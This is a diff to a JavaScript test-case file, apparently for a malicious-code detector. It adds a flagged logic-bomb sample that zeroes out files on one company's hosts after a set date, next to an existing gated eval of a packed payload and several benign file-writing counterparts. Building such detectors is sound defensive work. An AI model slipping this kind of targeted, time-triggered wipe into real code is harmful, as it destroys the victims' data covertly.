@@ -25,8 +25,16 @@ export default defineCases({
       name: 'inside of one program only',
       code: `const who = process.env.npm_package_description;\nif (who) eval(${PACKED})`,
     },
+    {
+      name: 'zeros in the place of what is kept, for one company from a day on',
+      code: "const fs = require('fs/promises'), os = require('os');\nexports.prune = async (files) => { if (os.hostname().endsWith('.factory.example') && new Date().getTime() > Date.UTC(2026, 8, 1)) for (const { path, size } of files) await fs.writeFile(path, Buffer.alloc(size)); }",
+    },
   ],
   ok: [
+    {
+      name: 'room that is made for a file, and a log that is emptied on Sundays',
+      code: "const fs = require('fs'), os = require('os');\nexports.make = (path, size) => { if (size > 0) fs.writeFileSync(path, Buffer.alloc(size)); return os.hostname() };\nexports.rotate = (log) => { if (new Date().getDay() === 0) fs.writeFileSync(log, Buffer.alloc(0)) };\nexports.shred = async (path, size) => { await fs.promises.writeFile(path, require('crypto').randomBytes(size)); await fs.promises.unlink(path) }",
+    },
     {
       name: 'the language that a system is set to, where no variable says it',
       code: "const { execFileSync } = require('child_process');\nlet tag = process.env.LC_ALL || process.env.LANG;\nif (!tag && process.platform === 'darwin') tag = execFileSync('defaults', ['read', '-g', 'AppleLocale'], { encoding: 'utf8' });\nexports.tag = tag",
